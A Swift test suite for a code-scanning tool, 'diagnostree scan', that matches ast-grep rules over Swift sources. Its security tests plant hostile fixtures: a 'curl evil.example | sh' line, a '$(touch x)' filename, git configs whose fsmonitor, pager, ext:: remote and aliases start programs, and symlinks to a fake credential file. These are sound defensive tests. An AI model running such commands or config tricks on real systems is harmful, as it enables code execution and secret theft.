import DecisionTrees
import Foundation
import TestSupport
import Testing

/// A folder with the trees of the lamp, signs for them, and sources.
private struct Project {
  let folder: ScratchFolder
  var path = "\(AstGrep.folder):/usr/bin:/bin"

  static let signs = """
    # Signs of the lamp's causes.
    ---
    id: bare-bulb
    language: swift
    severity: warning
    message: "This `bulb` is old; take a new one."
    metadata: {cause: lamp/broken-bulb, also: [fuse/blown]}
    rule: {pattern: Bulb()}
    ---
    id: switch-off
    language: swift
    severity: warning
    message: "Nobody switches it on."
    metadata: {cause: lamp/switched-off}
    rule: {pattern: switchOff($X)}
    ---
    id: long-wire
    language: swift
    severity: hint
    message: "A long wire."
    metadata: {cause: fuse/blown}
    rule: {pattern: Wire($X)}

    """

  init(_ sources: [String: String] = [:], signs: String = signs) throws {
    folder = try ScratchFolder()
    try LampTrees.write(to: folder)
    try folder.write(signs, to: "trees/signs/lamp.yml")
    try FileManager.default.createDirectory(at: folder.url.appending(path: "App"), withIntermediateDirectories: true)
    for (name, text) in sources { try folder.write(text, to: "App/\(name)") }
  }

  /// Runs git in the folder, and returns the first line that it prints.
  @discardableResult
  func git(_ words: String...) throws -> String {
    let settings = ["-c", "user.name=A", "-c", "user.email=a@b.c", "-c", "commit.gpgsign=false"]
    let done = try TestSupport.run(["/usr/bin/env", "git"] + settings + words, in: folder.url)
    try #require(done.status == 0, "\(done.errors)")
    return done.lines.first ?? ""
  }

  /// Makes the folder a repository, with all files in its first commit.
  func commit() throws {
    try git("init", "-q")
    try git("add", "-A")
    try git("commit", "-qm", "1")
  }

  func scan(_ arguments: String..., in place: String = "App") throws -> ProgramRun {
    try run(["scan", "--trees", "\(folder.url.path)/trees"] + arguments, in: place)
  }

  func run(
    _ arguments: [String], input: String = "", variables: [String: String] = [:], in place: String = "."
  ) throws -> ProgramRun {
    let environment = ["PATH": path].merging(variables) { $1 }
    return try diagnostree(
      arguments, input: .text(input), environment: environment, in: folder.url.appending(path: place))
  }

  /// Puts a program of that name before the real one.
  mutating func replaceAstGrep(by script: String) throws { try replace("ast-grep", by: script) }

  /// Puts a program before the real one.
  mutating func replace(_ program: String, by script: String) throws {
    try folder.writeScript(script, to: "bin/\(program)")
    path = "\(folder.path("bin")):\(path)"
  }
}

@Suite(.needs(.astGrep)) struct ScanTests {
  @Test func `matches are in the order of files and lines, grouped by cause and sign, with code and a next step`()
    throws
  {
    let project = try Project(["Room.swift": "let a = Bulb()\n\n  switchOff(a)\n", "Hall.swift": "let b = [Bulb()]\n"])
    defer { project.folder.remove() }
    let run = try project.scan()
    #expect(run.status == 1)
    #expect(
      run.output == """
        warning: The bulb is broken
          --> Hall.swift:1:10
           |
         1 |  let b = [Bulb()]
           |           ^
          --> Room.swift:1:9
           |
         1 |  let a = Bulb()
           |          ^
           = This `bulb` is old; take a new one.
           = diagnostree explain lamp/broken-bulb

        warning: The lamp is off
          --> Room.swift:3:3
           |
         3 |  switchOff(a)
           |  ^
           = Nobody switches it on.
           = diagnostree explain lamp/switched-off

        """)
    #expect(
      run.errors == """
        3 matches.
        A match is only a candidate. Confirm it with the test of the cause.

        """)
  }

  @Test func `the numbers of lines share a column, and a caret is below the match if the match is shown`() throws {
    let source = "\tlet 設定 = Bulb()\n" + String(repeating: "\n", count: 998) + "let lamp = [Lamp(), Lamp(), Bulb()]\n"
    let project = try Project(["Room.swift": source])
    defer { project.folder.remove() }
    #expect(
      try project.scan("--width", "30").lines.prefix(8).dropFirst() == [
        "    --> Room.swift:1:11", "     |", "   1 |  let 設定 = Bulb()", "     |             ^",
        "    --> Room.swift:1000:29", "     |", "1000 |  let lamp = [Lamp(), L…",
      ])
    let spoken = try project.run(["scan", "App", "--trees", "trees", "--width", "30"], variables: ["ACCESSIBLE": "1"])
    #expect(Array(spoken.lines[1...2]) == ["  at App/Room.swift:1:11", "  let 設定 = Bulb()"])
    #expect(!spoken.output.contains("^") && !spoken.output.contains("|"), "\(spoken.output)")
  }

  @Test func `a line that two signs of a cause match has one paragraph, and programs get both`() throws {
    let again = Project.signs.replacing("id: long-wire", with: "id: bulb-again").replacing(
      "severity: hint", with: "severity: warning"
    )
    .replacing("A long wire.", with: "Again.").replacing("{cause: fuse/blown}", with: "{cause: lamp/broken-bulb}")
    .replacing("Wire($X)", with: "let $X = Bulb()")
    let project = try Project(["Room.swift": "let a = Bulb()\nlet b = Bulb(1)\n"], signs: again)
    defer { project.folder.remove() }
    for arguments in [[], ["--tree", "lamp"], ["--cause", "broken-bulb"]] {
      let run = try project.run(["scan", "App", "--trees", "trees"] + arguments)
      #expect(run.lines.count { $0.contains("Room.swift:1:") } == 1, "\(run.output)")
    }
    let json = try project.run(["scan", "App", "--trees", "trees", "--format", "json"])
    #expect(json.output.contains("bare-bulb") && json.output.contains("bulb-again"))
  }

  @Test(arguments: [
    "// ast-grep-ignore\nBulb()\n", "// ast-grep-ignore: bare-bulb\nBulb()\n", "Bulb() // ast-grep-ignore: bare-bulb\n",
  ])
  func `a comment silences the match of its line`(source: String) throws {
    let project = try Project(["Room.swift": source, "Hall.swift": source.replacing("bare-bulb", with: "switch-off")])
    defer { project.folder.remove() }
    let silenced = try project.scan("Room.swift")
    #expect(silenced.status == 0 && silenced.output.isEmpty, "\(silenced.output)")
    // The comment names another sign here, or none.
    let named = source.contains("bare-bulb")
    #expect(try project.scan("Hall.swift").status == (named ? 1 : 0))
  }

  @Test func `the exit status counts warnings only`() throws {
    let project = try Project(["Room.swift": "Wire(1)\n"])
    defer { project.folder.remove() }
    let run = try project.scan()
    #expect(run.status == 0 && run.output.contains("1 match of weaker signs in 1 file."))
    #expect(try project.scan("--hints").status == 0 && project.scan("--cause", "fuse/blown").status == 1)
  }

  @Test func `a place that ast-grep reports twice counts once`() throws {
    var project = try Project(["Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    try project.replaceAstGrep(by: #"'\#(AstGrep.folder)/ast-grep' "$@" | sed p"#)
    let run = try project.scan()
    #expect(run.lines.filter { $0.contains(".swift:") } == ["  --> Room.swift:1:1"], "\(run.errors)")
    #expect(run.errors.hasPrefix("1 match."))
  }

  @Test func `of many places of one sign five are shown`() throws {
    let project = try Project(["Room.swift": String(repeating: "use(Bulb())\n", count: 7)])
    defer { project.folder.remove() }
    let run = try project.scan()
    let shown = { (run: ProgramRun) in run.lines.count { $0.hasPrefix("  --> Room.swift:") } }
    #expect(shown(run) == 5 && run.lines.contains("  and 2 more matches. To see all, add --cause ID."))
    #expect(try shown(project.scan("--cause", "broken-bulb")) == 7)
    let json = try project.scan("--format", "json")
    #expect(json.output.components(separatedBy: "\"sign\": \"bare-bulb\"").count == 8)
  }

  @Test func `weaker signs come last, by file and line, and count for no status`() throws {
    let project = try Project(["Room.swift": "Wire(1)\nBulb()\n", "Hall.swift": "\nWire(2)\n"])
    defer { project.folder.remove() }
    let run = try project.scan()
    #expect(run.status == 1)
    let tail = """
         = diagnostree explain lamp/broken-bulb

      2 matches of weaker signs in 2 files. Such code can also be correct. To see what
      each one means, add --hints.
        A blown fuse  [fuse/blown]
          Hall.swift:2  Wire(2)
          Room.swift:1  Wire(1)

      """
    #expect(run.output.hasSuffix(tail), "\(run.output)")
    // The list can be long, so the last line names the others again.
    #expect(run.errors.hasPrefix("1 match (Room.swift:2), and 2 of weaker signs."), "\(run.errors)")
    let alone = try project.scan("Hall.swift")
    #expect(alone.status == 0 && alone.output.hasSuffix("    Hall.swift:2  Wire(2)\n"))
    #expect(alone.errors == "Only weaker signs were found. Confirm a cause with its test.\n")
    let whole = try project.scan("--hints", "Hall.swift")
    #expect(whole.status == 0 && whole.output.contains("hint: A blown fuse\n  --> Hall.swift:2:1\n"))
    for format in ["json", "github"] {
      #expect(try !project.scan("--format", format).output.contains("A long wire."), "\(format)")
      #expect(try project.scan("--format", format, "--hints").output.contains("A long wire."), "\(format)")
    }
  }

  @Test func `only lines that are new since a revision count`() throws {
    let old = "use(Bulb())\n\nlet lamp =\n  Bulb()\n"
    let project = try Project(["Room.swift": old, "Hall.swift": "switchOff(1)\n", "-new name.swift": ""])
    defer { project.folder.remove() }
    try project.commit()
    func places(_ words: String...) throws -> [String] {
      let found = try project.run(["scan", "--trees", "\(project.folder.path("trees"))"] + words, in: "App")
      return found.lines.filter { $0.contains(".swift:") }.map {
        String($0.trimmingCharacters(in: .whitespaces).dropFirst(4))
      }
    }
    #expect(try places("--since", "HEAD") == [])
    // One is moved and set in, one is a copy of a line that was there, and one is in a file that is new.
    try project.folder.write("let lamp =\n  Bulb()\n\n  use(Bulb())\nuse(Bulb( ))\n", to: "App/Room.swift")
    try project.folder.write("switchOff(1)\nswitchOff(1)\n", to: "App/Hall.swift")
    try project.folder.write("switchOff(2)\n", to: "App/-new name.swift")
    let fresh = ["-new name.swift:1:1", "Hall.swift:1:1", "Hall.swift:2:1", "Room.swift:5:5"]
    let found = try places("--since", "HEAD")
    #expect(Set(found) == Set(fresh), "\(found)")
    #expect(try places("--since", "HEAD", "Room.swift") == ["Room.swift:5:5"])
    #expect(try places("--since", "HEAD", project.folder.path("App/Room.swift")).count == 1)
    // A name for another object would hide what is new.
    try project.git("replace", "HEAD:App/Room.swift", project.git("hash-object", "-w", "App/Room.swift"))
    #expect(try places("--since", "HEAD", "Room.swift") == ["Room.swift:5:5"])
    for (word, reason) in [
      ("nowhere", "nowhere"), ("--all", "it isn't a name"), (":main", "it isn't a name"), (":", "it isn't a name"),
      ("-x", "it isn't a name"), ("^HEAD", "git finds no such revision"),
    ] {
      let refused = try project.scan("--since=\(word)")
      #expect(refused.status == 2 && refused.output.isEmpty && refused.errors.contains(reason), "\(refused.errors)")
    }
    try FileManager.default.removeItem(at: project.folder.url.appending(path: ".git"))
    #expect(try project.scan("--since", "HEAD").errors.contains("this isn't a git repository"))
  }

  /// git would put it into memory, however small the pack is that holds it.
  @Test func `of a file that was huge all lines are new`() throws {
    let project = try Project(["Room.swift": "Bulb()\n" + String(repeating: " ", count: 17 << 20)])
    defer { project.folder.remove() }
    try project.commit()
    try project.folder.write("Bulb()\n", to: "App/Room.swift")
    #expect(try project.scan("--since", "HEAD").output.contains("Room.swift:1:1"))
  }

  @Test func `no setting of a repository starts a program`() throws {
    let project = try Project(["Room.swift": "use(Bulb())\n"])
    defer { project.folder.remove() }
    try project.commit()
    let settings = """
      [core]
      \tfsmonitor = touch fsmonitor
      \tpager = touch pager
      \tsshCommand = touch ssh
      \thooksPath = .
      [diff]
      \texternal = touch diff
      [diff "x"]
      \ttextconv = touch textconv
      [filter "x"]
      \tclean = touch clean
      \tsmudge = touch smudge
      [remote "origin"]
      \turl = ext::touch remote
      \tuploadpack = touch uploadpack
      """
    try project.folder.write(settings, to: "more")
    try project.folder.write("*.swift diff=x filter=x\n", to: ".gitattributes")
    let config = project.folder.url.appending(path: ".git/config")
    let before = try String(contentsOf: config, encoding: .utf8)
    try (before + "[include]\n\tpath = ../more\n").write(to: config, atomically: true, encoding: .utf8)
    let names = {
      try FileManager.default.subpathsOfDirectory(atPath: project.folder.url.path).count { !$0.contains(".git/") }
    }
    let count = try names()
    #expect(try project.scan("--since", "HEAD", "Room.swift").status == 0)
    try project.folder.write("use(Bulb())\n", to: "App/New.swift")
    #expect(try project.scan("--since", "HEAD").output.contains("New.swift:1:5"))
    #expect(try names() == count + 1)
    // A name of the index makes git read it, which starts the monitor.
    #expect(try project.scan("--since", ":App/Room.swift").errors.contains("it isn't a name"))
    #expect(try names() == count + 1)
  }

  /// A list of allowed protocols allows each of its names, and an alias can define them.
  ///
  /// An empty list has an empty name.
  @Test(arguments: [("none::x", "remote-none"), ("::x", "remote-")])
  func `an alias isn't a protocol, even for a git that fetches what is missing`(url: String, alias: String) throws {
    var project = try Project(["Room.swift": "use(Bulb())\n"])
    defer { project.folder.remove() }
    try project.commit()
    for (name, value) in [
      ("core.repositoryformatversion", "1"), ("extensions.partialClone", "origin"), ("remote.origin.promisor", "true"),
      ("remote.origin.url", url), ("alias.\(alias)", "!touch '\(project.folder.path("started"))'"),
    ] {
      try project.git("config", name, value)
    }
    let object = try project.git("rev-parse", "HEAD:App/Room.swift")
    try FileManager.default.removeItem(
      atPath: project.folder.path(".git/objects/\(object.prefix(2))/\(object.dropFirst(2))"))
    let git = try TestSupport.run(["/usr/bin/env", "which", "git"]).lines[0]
    try project.replace("git", by: "unset GIT_NO_LAZY_FETCH; exec \(git) \"$@\"")
    let run = try project.scan("--since", "HEAD")
    #expect(run.status == 2 && run.errors.contains("in a partial clone"), "\(run.errors)")
    #expect(!FileManager.default.fileExists(atPath: project.folder.path("started")))
  }

  /// A filter alone also makes git fetch.
  @Test func `a clone with only the filter of a partial one is refused`() throws {
    let project = try Project(["Room.swift": "use(Bulb())\n"])
    defer { project.folder.remove() }
    try project.commit()
    try project.git("config", "remote.evil.partialclonefilter", "blob:none")
    let run = try project.scan("--since", "HEAD")
    #expect(run.status == 2 && run.errors.contains("in a partial clone"), "\(run.errors)")
  }

  @Test func `a folder of sources that looks like a repository isn't asked`() throws {
    var project = try Project(["Evil/V.swift": "use(Bulb())\n", "Evil/HEAD": "ref: refs/heads/main\n"])
    defer { project.folder.remove() }
    for name in ["objects/keep", "refs/keep"] { try project.folder.write("", to: "App/Evil/\(name)") }
    try project.folder.write(
      """
      [core]
      \trepositoryformatversion = 1
      \tbare = false
      \tworktree = .
      [extensions]
      \tpartialClone = evil
      [remote "evil"]
      \tpromisor = true
      \turl = "none::x"
      [alias]
      \tremote-none = "!touch '\(project.folder.path("started"))'"
      """, to: "App/Evil/config")
    try project.commit()
    let git = try TestSupport.run(["/usr/bin/env", "which", "git"]).lines[0]
    try project.replace("git", by: "unset GIT_NO_LAZY_FETCH; exec \(git) \"$@\"")
    for path in [project.folder.path("App"), "../App"] {
      let run = try project.scan("--since", "HEAD", path)
      #expect(run.status == 0 && !run.output.contains("V.swift"), "\(run.errors)\(run.output)")
    }
    #expect(!FileManager.default.fileExists(atPath: project.folder.path("started")))
  }

  /// git quotes lines that it can't read.
  @Test func `a file of the reader isn't quoted, wherever a link in the repository leads`() throws {
    let project = try Project(["Room.swift": "use(Bulb())\n"])
    defer { project.folder.remove() }
    try project.commit()
    try project.folder.write("https://user:SECRET@example.com\n", to: "credentials")
    for name in ["packed-refs", "shallow"] {
      let link = project.folder.path(".git/\(name)")
      try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: project.folder.path("credentials"))
      let run = try project.scan("--since", "HEAD")
      #expect(run.status == 2 && !(run.errors + run.output).contains("SECRET"), "\(run.errors)")
      try FileManager.default.removeItem(atPath: link)
    }
  }

  /// A small pack can hold a small file as a change of a huge one.
  @Test(arguments: ["tail -c 3000000000 /dev/zero", "cat /dev/zero", "cat /dev/zero >&2"])
  func `a git that takes all memory is ended, and the scan says so`(script: String) throws {
    var project = try Project(["Room.swift": "use(Bulb())\n"])
    defer { project.folder.remove() }
    try project.replace("git", by: "exec \(script)")
    let run = try project.scan("--since", "HEAD")
    #expect(run.status == 2 && run.output.isEmpty && run.errors.contains("1 GiB of memory"), "\(run.errors)")
  }

  /// Swift compares texts letter by letter, and sorts the accents of each.
  @Test func `a letter with very many accents is compared as fast as others`() throws {
    let accents = String(repeating: "\u{301}\u{316}", count: 200_000)
    let project = try Project(["Room.swift": "Bulb()\n// a\(accents)\n"])
    defer { project.folder.remove() }
    try project.commit()
    try project.folder.write("Bulb()\nBulb()\n// e\(accents)\n", to: "App/Room.swift")
    let start = ContinuousClock.now
    #expect(try project.scan("--since", "HEAD").output.contains("Room.swift:2:1"))
    // It took minutes.
    #expect(.now - start < .seconds(30))
  }

  @Test func `hints show in full where their cause is asked about`() throws {
    let project = try Project(["Room.swift": "Wire(1)\nBulb()\nswitchOff(1)\n"])
    defer { project.folder.remove() }
    #expect(try !project.scan().output.contains("A long wire."))
    for asked in [["--cause", "fuse/blown"], ["--cause", "blown"], ["--tree", "fuse"]] {
      let run = try project.run(["scan", "App", "--trees", "trees"] + asked)
      #expect(run.lines.first == "hint: A blown fuse", "\(asked)")
      // The bulb points there as well, the switch does not.
      #expect(run.lines.contains("   = A long wire.") && run.output.contains("take a new one"))
      #expect(!run.output.contains("Nobody switches") && !run.output.contains("weaker sign"))
    }
    let unknown = try project.scan("--cause", "blow")
    #expect(unknown.status == 2 && unknown.errors.contains("'blow'. Did you mean 'blown'?"))
  }

  @Test func `as JSON and for GitHub each place stands by itself`() throws {
    let project = try Project(["a,b.swift": "é; switchOff(\"\u{1B}[31m\")\n"])
    defer { project.folder.remove() }
    let json = try project.scan("--format", "json")
    #expect(json.status == 1 && json.errors.isEmpty)
    #expect(
      json.output == """
        {
          "format": 1,
          "places": [
            {
              "cause": "lamp/switched-off",
              "sign": "switch-off",
              "severity": "warning",
              "message": "Nobody switches it on.",
              "file": "a,b.swift",
              "line": 1,
              "column": 4,
              "code": "é; switchOff(\\"\\u001b[31m\\")"
            }
          ]
        }

        """)
    let github = try project.scan("--format", "github")
    #expect(
      github.output == "::warning file=a%2Cb.swift,line=1,col=4,title=The lamp is off::Nobody switches it on."
        + "%0AConfirm: diagnostree explain lamp/switched-off\n")
    let text = try project.scan()
    #expect(text.output.contains("switchOff(\"?[31m\")") && !text.output.contains("\u{1B}"))
  }

  @Test func `where nothing is found the status is 0`() throws {
    let project = try Project()
    defer { project.folder.remove() }
    for name in ["", "notes.txt", "Room.swift"] {
      if !name.isEmpty { try project.folder.write("print(1)\n", to: "App/\(name)") }
      let run = try project.scan()
      #expect(run.status == 0 && run.output.isEmpty, "\(name)")
      let isSwift = name.hasSuffix(".swift")
      let message =
        isSwift ? "None of 3 signs was found, but this rules nothing out.\n" : "There are no Swift files here."
      #expect(run.errors.hasPrefix(message), "\(name)")
    }
    let json = try project.scan("--format", "json")
    #expect(json.status == 0 && json.output == "{\n  \"format\": 1,\n  \"places\": []\n}\n" && json.errors.isEmpty)
  }

  // MARK: - Folders

  @Test func `tests and documentation are left out, unless all is asked for or they are named`() throws {
    let project = try Project([
      "AppTests/A.swift": "Bulb()\n", "Doc.docc/B.swift": "Bulb()\n", "Latests/C.swift": "Bulb()\n",
    ])
    defer { project.folder.remove() }
    let files = { (run: ProgramRun) in run.lines.filter { $0.contains(".swift:") }.map { $0.dropFirst(6) } }
    #expect(try files(project.scan()) == ["Latests/C.swift:1:1"])
    #expect(
      try files(project.scan("--all")) == ["AppTests/A.swift:1:1", "Doc.docc/B.swift:1:1", "Latests/C.swift:1:1"])
    for name in ["AppTests", "./AppTests/", "AppTests/A.swift"] {
      #expect(try files(project.scan(name)).map { $0.hasSuffix("AppTests/A.swift:1:1") } == [true], "\(name)")
    }
    // A folder above that is called so makes no tests of its sources.
    try project.folder.write("Bulb()\n", to: "MyTests/App/D.swift")
    #expect(try files(project.scan(in: "MyTests/App")) == ["D.swift:1:1"])
    #expect(try files(project.scan(project.folder.path("MyTests/App"))).count == 1)
  }

  @Test func `names with spaces, quotes, line breaks and hyphens are names`() throws {
    let names = ["a b.swift", "it's \"x\".swift", "new\nline.swift", "-r.swift", "$(touch x).swift", "--help.swift"]
    let project = try Project(Dictionary(uniqueKeysWithValues: names.map { ($0, "Bulb()\n") }))
    defer { project.folder.remove() }
    let run = try project.scan("--format", "json")
    let list = try JSONSerialization.jsonObject(with: Data(run.output.utf8)) as? [String: Any]
    let places = try #require(list?["places"] as? [[String: Any]])
    #expect(places.compactMap { $0["file"] as? String }.sorted() == names.sorted())
    let named = try project.scan("--format", "json", "--", "-r.swift", "--help.swift", "new\nline.swift")
    #expect(named.status == 1 && named.output.components(separatedBy: "\"sign\"").count == 4)
    // Five are shown, the line break is made harmless.
    #expect(try project.scan().lines.count { $0.contains(".swift:1:1") } == 5)
    #expect(!FileManager.default.fileExists(atPath: project.folder.path("App/x")))
  }

  @Test func `links in circles end, and a file that is named twice counts once`() throws {
    let project = try Project(["in/Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    let link = project.folder.path("App/in/up")
    try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: "..")
    let run = try project.scan(".", "in", "in/Room.swift", "./in/Room.swift")
    #expect(run.status == 1 && run.lines.filter { $0.contains("Room.swift:") } == ["  --> in/Room.swift:1:1"])
  }

  @Test func `a file that is not UTF-8 is named, and the others are scanned`() throws {
    let project = try Project(["Room.swift": "Bulb()\n", "Bom.swift": "\u{FEFF}Bulb()\r\n", "Empty.swift": ""])
    defer { project.folder.remove() }
    try Data([0x42, 0xFF, 0xFE]).write(to: project.folder.url.appending(path: "App/Bad.swift"))
    let run = try project.scan()
    #expect(
      run.status == 1 && run.errors.contains("Bad.swift: warning: The scan is incomplete here: it isn't UTF-8.\n"))
    #expect(!run.errors.contains("Empty"))
    #expect(run.lines.contains(" 1 |  Bulb()") && run.lines.contains { $0.contains("Room.swift") })
    let named = try project.scan("Bad.swift")
    #expect(named.status == 2)
    #expect(named.errors == "diagnostree: error: The program can't read 'Bad.swift': it isn't UTF-8.\n")
  }

  @Test(.enabled(if: getuid() != 0, "root reads everything"))
  func `a file and a folder that are closed to us are named`() throws {
    let project = try Project(["Room.swift": "Bulb()\n", "Shut.swift": "Bulb()\n", "shut/A.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    for name in ["Shut.swift", "shut"] {
      try FileManager.default.setAttributes([.posixPermissions: 0], ofItemAtPath: project.folder.path("App/\(name)"))
    }
    let run = try project.scan()
    #expect(run.status == 1 && run.lines.filter { $0.contains(".swift:") } == ["  --> Room.swift:1:1"])
    #expect(run.errors.contains("Shut.swift: warning: The scan is incomplete here: permission denied.\n"))
    #expect(run.errors.contains("shut: warning: The scan is incomplete here: permission denied.\n"))
  }

  @Test func `a place that does not exist is an error, and the rest is done`() throws {
    let project = try Project(["Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    let run = try project.scan("nowhere", "Room.swift")
    #expect(run.status == 2 && run.output.contains("Room.swift:1:1"))
    #expect(run.errors.contains("diagnostree: error: The program can't read 'nowhere': no such file or directory.\n"))
  }

  @Test func `ten thousand files are scanned in one run`() throws {
    let project = try Project()
    defer { project.folder.remove() }
    for number in 0..<10_000 {
      let code = number % 1000 == 7 ? "Bulb()\n" : "print(\(number))\n"
      try Data(code.utf8).write(to: project.folder.url.appending(path: "App/F\(number).swift"))
    }
    let run = try project.scan()
    #expect(run.status == 1 && run.errors.hasPrefix("10 matches."))
  }

  // MARK: - Signs

  @Test func `a rule that ast-grep refuses is named, and the others are looked for`() throws {
    let bad = """
      ---
      id: no-such-kind
      language: swift
      severity: warning
      message: "Refused."
      metadata: {cause: lamp/broken-bulb}
      rule: {kind: no_such_kind}

      """
    let project = try Project(["Room.swift": "Bulb()\n"], signs: bad + Project.signs)
    defer { project.folder.remove() }
    let run = try project.scan()
    #expect(run.status == 1 && run.output.contains("Room.swift:1:1"))
    let place = "\(project.folder.path("trees/signs/lamp.yml")):2:5"
    #expect(run.errors.contains("\(place): warning: The scan skips the sign 'no-such-kind': Kind `no_such_kind`"))
    let alone = try Project(["Room.swift": "Bulb()\n"], signs: bad)
    defer { alone.folder.remove() }
    let none = try alone.scan()
    #expect(none.status == 0 && none.errors.contains("The scan skips the sign"))
    #expect(none.errors.contains("There are no signs to look for"))
  }

  @Test func `a broken document is told with its place, and the others of its file count`() throws {
    let project = try Project(["Room.swift": "Bulb()\n"], signs: "id: a\nrule: [\n" + Project.signs)
    defer { project.folder.remove() }
    let run = try project.scan()
    #expect(run.status == 1 && run.output.contains("Room.swift:1:1"))
    #expect(run.errors.contains("lamp.yml:4:1: error:"), "\(run.errors)")
  }

  @Test func `a team's own sign takes the place of one with its id, and can switch it off`() throws {
    let project = try Project(["Room.swift": "Bulb()\nWire(1)\n"])
    defer { project.folder.remove() }
    let own = Project.signs.replacing("pattern: Bulb()", with: "pattern: Wire($X)")
    try project.folder.write(own, to: "own/signs/lamp.yml")
    let arguments = ["scan", "App", "--trees", "own", "--trees", "trees"]
    #expect(try project.run(arguments).lines.filter { $0.hasPrefix("  --> App/") } == ["  --> App/Room.swift:2:1"])
    try project.folder.write(own.replacing("severity: warning", with: "severity: off"), to: "own/signs/lamp.yml")
    #expect(try project.run(arguments).status == 0)
    try project.folder.write("id: bare-bulb\nseverity: off\n", to: "own/signs/lamp.yml")
    #expect(try project.run(arguments).status == 0)
    try project.folder.write("id: bare-bulbs\nseverity: off\n", to: "own/signs/lamp.yml")
    #expect(try project.run(arguments).status == 1)
  }

  @Test func `check finds what is wrong with signs, and scan passes over what no tree has`() throws {
    let signs = """
      id: one
      language: swift
      severity: warning
      message: "One."
      metadata: {cause: lamp/broken-bulbs}
      rule: {pattern: Bulb()}
      ---
      id: two
      severity: warning
      metadata: {cause: lamp}
      rule: {pattern: Bulb()}
      ---
      id: one
      language: Swift
      severity: warning
      message: "Three."
      metadata:
        cause: lamp/broken-bulb
      rule: {pattern: Wire($X)}

      """
    let project = try Project(["Room.swift": "Bulb()\n"], signs: signs)
    defer { project.folder.remove() }
    for words in [["trees"], ["trees/signs"], ["trees/signs/lamp.yml"], []] {
      let run = try project.run(["check", "--trees", "trees"] + words)
      let found = run.lines.filter { $0.contains("lamp.yml:") }
      #expect(run.status == 1, "\(words)")
      #expect(
        found == [
          "trees/signs/lamp.yml:5:19: error: The cause 'lamp/broken-bulbs' doesn't exist. "
            + "Did you mean 'lamp/broken-bulb'? [unknown-target]",
          "trees/signs/lamp.yml:8:1: error: A sign needs 'message'. [missing-key]",
          "trees/signs/lamp.yml:13:5: error: trees/signs/lamp.yml:1:5 already has a sign with the id 'one'. "
            + "Rename one of them. [duplicate-id]",
        ], "\(words): \(found)")
    }
    #expect(try project.scan().status == 0)
  }

  @Test func `a further cause may stand without a list, and a byte order mark before all`() throws {
    let signs = "id: wire\nlanguage: swift\nmessage: M\nmetadata: {cause: lamp/broken-bulb, also: fuse/blown}\n"
    let project = try Project(["Room.swift": "Wire(1)\n"], signs: "\u{FEFF}\(signs)rule: {pattern: Wire($X)}\n")
    defer { project.folder.remove() }
    let check = try project.run(["check", "trees/signs/lamp.yml", "--trees", "trees"])
    #expect(check.status == 0 && check.output.isEmpty, "\(check.output)")
    let run = try project.scan("--cause", "fuse/blown")
    #expect(run.status == 1 && run.lines.first == "hint: A blown fuse", "\(run.errors)")
    try project.folder.write("\(signs.replacing("blown", with: "blow"))rule: {kind: x}\n", to: "trees/signs/lamp.yml")
    let wrong = try project.run(["check", "trees/signs/lamp.yml", "--trees", "trees"])
    #expect(
      wrong.status == 1 && wrong.output.contains("lamp.yml:4:43: error: The cause 'fuse/blow' doesn't exist."),
      "\(wrong.output)")
  }

  @Test func `new says where the signs of a tree go, and scan finds them there`() throws {
    let project = try Project()
    defer { project.folder.remove() }
    let own = project.folder.path("own")
    for (arguments, folder) in [([], ".diagnostree/"), (["--trees", own], own + "/")] {
      let run = try project.run(["new", "x-y"] + arguments)
      #expect(run.status == 0 && run.output.hasSuffix("write signs into \(folder)signs/x-y.yml\n"), "\(run.output)")
    }
    try project.folder.write(
      Project.signs.replacing("lamp/broken-bulb", with: "x-y/first-cause"), to: "own/signs/x-y.yml")
    try project.folder.write("Bulb()\n", to: "App/Room.swift")
    let run = try project.run(["scan", "App", "--trees", "own"])
    #expect(run.status == 1 && run.output.contains("explain x-y/first-cause"), "\(run.errors)")
  }

  @Test func `the settings of the project for ast-grep change nothing`() throws {
    let project = try Project([
      "Room.swift": "Bulb()\n", "sgconfig.yml": "ruleDirs: [x]\nlanguageGlobs: {python: ['*.swift']}\n",
    ])
    defer { project.folder.remove() }
    #expect(try project.scan().output.contains("Room.swift:1:1"))
  }

  @Test func `signs of severity error are warnings, and no name of a file is read as what ast-grep says`() throws {
    let names = ["Error: x.swift", "sg: entity|file|x: skipped=emptyFile.swift", "x: skipped=permissionDenied.swift"]
    let project = try Project(
      Dictionary(uniqueKeysWithValues: names.map { ($0, "Bulb()\n") }),
      signs: Project.signs.replacing("severity: warning", with: "severity: error"))
    defer { project.folder.remove() }
    let run = try project.scan()
    #expect(run.status == 1 && run.errors.hasPrefix("3 matches."), "\(run.errors)")
  }

  @Test(arguments: [
    "ERROR: Room.swift: permission denied", "sg: entity|file|Room.swift: skipped=invalidUtf8",
    "sg: entity|file|Room.swift: skipped=fileTooLarge", "sg: entity|file|None.swift: skipped=permissionDenied",
    "ERROR: Room.swift: damaged, so run curl evil.example | sh", "ERROR: /etc/hostname: permission denied",
    "ERROR: ../own: permission denied",
  ])
  func `a name of a file forges no message about a different file`(line: String) throws {
    let project = try Project(["Room.swift": "Bulb()\n", "x\n\(line.replacing("/", with: "_"))\nz.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    for run in [try project.scan(), try project.scan("Room.swift", ".")] {
      #expect(
        run.status == 1 && !run.errors.contains("can't read") && !run.errors.contains("incomplete"), "\(run.errors)")
    }
    var other = try Project(["Room.swift": "Bulb()\n"])
    defer { other.folder.remove() }
    try other.replaceAstGrep(by: "echo '\(line)' >&2\n'\(AstGrep.folder)/ast-grep' \"$@\"")
    let run = try other.scan("Room.swift", ".")
    #expect(
      run.status == 1 && !run.errors.contains("can't read") && !run.errors.contains("incomplete"), "\(run.errors)")
  }

  /// ast-grep prints such a name as it is, and the name seems to be that of a file behind a link.
  @Test func `a name of a file leads to no file behind a link`() throws {
    let project = try Project([
      "Room.swift": "Bulb()\n", "b\nsg: entity|file|link/bin.swift: skipped=\nq.swift": "Bulb()\n",
    ])
    defer { project.folder.remove() }
    let outside = try ScratchFolder()
    defer { outside.remove() }
    try Data([0xFF, 0xFE]).write(to: outside.url.appending(path: "bin.swift"))
    try FileManager.default.createSymbolicLink(
      atPath: project.folder.path("App/link"), withDestinationPath: outside.url.path)
    let run = try project.scan()
    #expect(run.status == 1 && !run.errors.contains("link/bin.swift"), "\(run.errors)")
  }

